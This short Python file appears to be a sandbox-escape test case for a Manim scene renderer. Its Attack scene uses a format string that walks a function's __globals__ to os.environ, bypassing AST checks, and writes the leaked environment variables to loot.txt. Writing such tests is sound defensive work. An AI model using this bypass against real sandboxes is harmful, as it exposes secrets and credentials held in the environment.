# family: environment
# layer: sandbox
# attack: a format string walks __globals__ to os.environ (a string, past the AST)
import tempfile
from manim import *


class Attack(Scene):
    def construct(self):
        leak = "{0.__globals__[_os].environ}".format(tempfile.gettempdir)
        open("loot.txt", "w").write(leak)
        self.wait(0.1)
